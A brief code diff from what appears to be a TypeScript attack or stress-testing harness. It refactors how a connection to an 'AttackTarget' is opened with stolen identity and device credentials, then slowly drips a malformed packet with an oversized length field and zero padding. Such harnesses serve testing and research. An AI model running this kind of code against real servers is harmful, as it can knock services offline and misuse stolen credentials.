@@ -28,9 +28,7 @@ const PLACES: readonly ((target: AttackTarget, signal: AbortSignal) => Promise<R
     return line
   },
   async (target, signal) => {
-    const line = RawLine.tls(target, signal, target.stolen.identity)
-    line.say(connectPacket(target.stolen.device))
-    await line.hear()
+    const line = await RawLine.entered(target, signal)
     await drip(line, Uint8Array.of(0x32, 0xff, 0x7f, 0, 10, ...Buffer.alloc(200)), signal)
     return line
   },
